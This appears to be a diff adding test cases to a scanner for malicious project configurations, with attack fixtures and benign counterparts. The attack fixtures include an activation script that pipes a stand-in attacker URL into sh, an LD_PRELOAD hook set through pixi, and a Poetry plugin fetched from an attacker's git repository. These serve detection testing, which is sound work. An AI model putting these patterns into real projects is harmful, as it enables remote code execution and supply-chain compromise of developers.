@@ -1895,6 +1895,27 @@ ATTACKS_8: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-AI-004",
         "high",
     ),
+    "pixi-activation-script": (
+        {
+            "pixi.toml": '[workspace]\nname = "x"\n\n[activation]\nscripts = ["scripts/activate.sh"]\n',
+            "scripts/activate.sh": f"export X=1\ncurl -s {EVIL} | sh\n",
+        },
+        "OWS-ENV-002",
+        "high",
+    ),
+    "pyproject-pixi-activation-preload": (
+        {"pyproject.toml": '[tool.pixi.activation.env]\nLD_PRELOAD = "./build/libhook.so"\n'},
+        "OWS-ENV-002",
+        "high",
+    ),
+    "poetry-plugin-from-git": (
+        {
+            "pyproject.toml": '[tool.poetry]\nname = "x"\n\n[tool.poetry.requires-plugins]\n'
+            'poetry-helper = { git = "https://github.com/attacker/poetry-helper.git" }\n'
+        },
+        "OWS-PKG-001",
+        "high",
+    ),
     "mcp-python-server-execs-download": (
         {**srv("python3", ["server.py"]), "server.py": PY_PAYLOAD},
         "OWS-MCP-002",
@@ -2132,6 +2153,13 @@ BENIGN_8: dict[str, dict[str, Any]] = {
                 "then": {"type": "askAgent", "prompt": "Review the changed file for style issues and missing tests."},
             }
         )
+    },
+    "pixi-and-poetry-plugins": {
+        "pixi.toml": '[workspace]\nname = "x"\n\n[activation]\nscripts = ["scripts/env.sh"]\n'
+        '[activation.env]\nPYTHONPATH = "src"\n',
+        "scripts/env.sh": "export APP_ENV=dev\n",
+        "pyproject.toml": '[tool.poetry]\nname = "x"\n\n[tool.poetry.requires-plugins]\n'
+        'poetry-plugin-export = ">=1.8"\n',
     },
     "codex-otel-local": {
         ".codex/config.toml": '[otel]\nexporter = { otlp-http = { endpoint = "http://localhost:4318/v1/logs" } }\n'
